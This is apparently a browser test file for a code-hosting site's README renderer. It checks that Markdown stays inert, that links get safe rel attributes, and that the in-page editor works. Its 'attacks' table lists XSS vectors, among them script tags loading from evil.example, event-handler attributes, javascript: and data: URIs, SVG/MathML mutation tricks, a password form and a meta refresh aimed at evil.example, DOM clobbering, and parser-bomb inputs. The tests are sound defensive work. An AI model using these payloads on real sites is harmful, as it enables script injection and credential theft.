import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";
import type { Page } from "playwright-core";
import { assertAccessible, openSite, type Site, type Visit } from "./support/site.ts";

let site: Site;
before(async () => {
  site = await openSite();
  await site.makeUser("mallory");
  await site.call("mallory", "POST", "/repositories", {
    namespace: "mallory",
    name: "app",
    visibility: "public",
  });
});
after(() => site[Symbol.asyncDispose]());

const write = (markdown: string) =>
  site.call("mallory", "PUT", "/repositories/mallory/app/readme", { markdown });

let shown = 0;

/** Shows a README that begins with a mark, and waits for the mark. */
async function show(page: Page, markdown: string): Promise<void> {
  shown += 1;
  await write(`shown ${shown}.\n\n${markdown}`);
  await page.goto("/r/mallory/app");
  await page.getByText(`shown ${shown}.`, { exact: true }).waitFor();
}

/** What would have run sets this. */
const sting = "globalThis.stung = true";

const attacks: Readonly<Record<string, string>> = {
  "script elements": `<script>${sting}</script>\n\n<ScRiPt>${sting}</ScRiPt>\n\n<script src="https://evil.example/x.js"></script>`,
  "event attributes": `<img src=x onerror="${sting}">\n\n<body onload="${sting}">\n\n<details open ontoggle="${sting}">x</details>`,
  "script addresses": `[a](javascript:${sting}) [b](JaVaScRiPt:${sting}) [c](&#106;avascript:${sting}) [d](java\tscript:${sting}) [e](vbscript:x) <javascript:${sting}>\n\n[f]\n\n[f]: javascript:${sting}`,
  "data addresses": `[a](data:text/html,<script>${sting}</script>) ![b](data:image/svg+xml,<svg/onload=${sting}>) <data:text/html,x>`,
  "SVG and MathML": `<svg onload="${sting}"><script>${sting}</script></svg>\n\n<math><mtext></mtext><mglyph><style><img src=x onerror=${sting}></style></mglyph></math>`,
  "attributes out of titles": `[a](https://example.org "x\\" onmouseover=\\"${sting}") ![x" onerror="${sting}](/x.png)`,
  "forms, frames and styles": `<form action="https://evil.example"><input name=password></form>\n\n<iframe srcdoc="<script>${sting}</script>"></iframe>\n\n<style>*{display:none}</style>\n\n<base href="https://evil.example/">\n\n<meta http-equiv=refresh content="0;url=https://evil.example">`,
  "names of the page's own elements": '# content\n\n# root\n\n<div id="content" name="getElementById"></div>',
};

describe("a README full of attacks stays inert", () => {
  let visit: Visit;
  before(async () => {
    // A picture of this server that is not there answers 404.
    visit = await site.visit({ expectedStatuses: [404] });
  });
  after(() => visit[Symbol.asyncDispose]());

  for (const [name, markdown] of Object.entries(attacks)) {
    test(name, async () => {
      const { page } = visit;
      await show(page, markdown);
      for (const element of await page.locator("main a, main img").all()) {
        await element.dispatchEvent("mouseover");
        await element.dispatchEvent("error");
      }
      const found = await page.evaluate(() => {
        const readme = [...document.querySelectorAll("main p")].find((p) =>
          /^shown \d+\.$/.test(p.textContent),
        )?.parentElement;
        const all = [...(readme?.querySelectorAll("*") ?? [])];
        return {
          stung: "stung" in globalThis,
          elements: [...new Set(all.map(({ localName }) => localName))],
          attributes: [...new Set(all.flatMap((element) => element.getAttributeNames()))],
          schemes: [...document.querySelectorAll("main a")].map(
            (link) => (link as HTMLAnchorElement).protocol,
          ),
          pictures: [...document.querySelectorAll("main img")].map(
            (image) => (image as HTMLImageElement).src,
          ),
          clobbered: document.querySelectorAll("#content, #root").length,
        };
      });
      assert.equal(found.stung, false);
      const known = "p h3 h4 h5 h6 a img code pre ul ol li em strong s br hr blockquote div table".split(" ");
      assert.deepEqual(
        found.elements.filter((element) => !known.includes(element)),
        [],
      );
      const harmless = ["href", "rel", "src", "alt", "title", "id", "class", "tabindex"];
      assert.deepEqual(
        found.attributes.filter((attribute) => !harmless.includes(attribute)),
        [],
      );
      assert.deepEqual(
        found.schemes.filter((scheme) => !/^(https?|mailto):$/.test(scheme)),
        [],
      );
      assert.deepEqual(
        found.pictures.filter((address) => !address.startsWith(`${site.url}/`)),
        [],
      );
      assert.equal(found.clobbered, 2, "the page's own, and no other");
    });
  }

  test("depth and length beyond all use", async () => {
    const { page } = visit;
    const bombs = [
      "> ".repeat(5_000),
      `${"- ".repeat(5_000)}x`,
      "[".repeat(50_000),
      "*a_".repeat(20_000),
      `${"![".repeat(10_000)}](`,
      `|${"a|".repeat(5_000)}\n|${"-|".repeat(5_000)}`,
    ];
    for (const bomb of bombs) {
      await show(page, bomb);
      assert.ok(await page.getByRole("heading", { level: 1 }).isVisible());
    }
  });
});

test("a README shows what Markdown has, keeps links from speaking for the page, and shows no picture of others", async () => {
  await using visit = await site.visit({ expectedStatuses: [404] });
  const { page } = visit;
  await show(
    page,
    [
      "# Title\n\n[to the end](#the-end)\n\n| a | b |\n|---|--:|\n| 1 | 2 |",
      "```sh\nnpm start\n```\n\n![a badge](https://img.example/x.svg)",
      "[![of a badge](https://img.example/y.svg)](https://ci.example/)\n\n## The end",
    ].join("\n\n"),
  );
  assert.equal(await page.getByRole("heading", { name: "Title", level: 3 }).count(), 1);
  const badge = page.getByRole("link", { name: "a badge", exact: true });
  assert.equal(await badge.getAttribute("href"), "https://img.example/x.svg");
  assert.equal(await badge.getAttribute("rel"), "noopener nofollow");
  assert.equal(
    await page.getByRole("link", { name: "of a badge" }).getAttribute("href"),
    "https://ci.example/",
  );
  assert.equal(await page.locator("main img").count(), 0);
  await page.getByRole("link", { name: "to the end" }).click();
  await page.waitForURL("**/r/mallory/app#readme-the-end");
  assert.equal(await page.locator("td").last().getAttribute("data-align"), "right");
  await assertAccessible(page);
});

test("who may edit the README does so in the page, with a preview; typed text is not lost by accident", async () => {
  await write("");
  await using visit: Visit = await site.visit();
  const { page } = visit;
  await site.signIn(visit, "mallory");
  await page.goto("/r/mallory/app");
  await page.getByRole("button", { name: "Write a README" }).click();
  await page.getByLabel("Text in Markdown").fill("# Written **here**");
  await page.getByRole("button", { name: "Preview" }).click();
  await page.getByRole("heading", { name: "Written here" }).waitFor();
  await page.getByRole("link", { name: "Activity" }).click();
  const dialog = page.getByRole("dialog", { name: "Leave without saving?" });
  await dialog.getByRole("button", { name: "Cancel" }).click();
  await page.getByRole("button", { name: "Save" }).click();
  await page.getByRole("button", { name: "Edit README" }).waitFor();
  const stored = await site.call("mallory", "GET", "/repositories/mallory/app/readme");
  assert.deepEqual(stored, { markdown: "# Written **here**" });
});
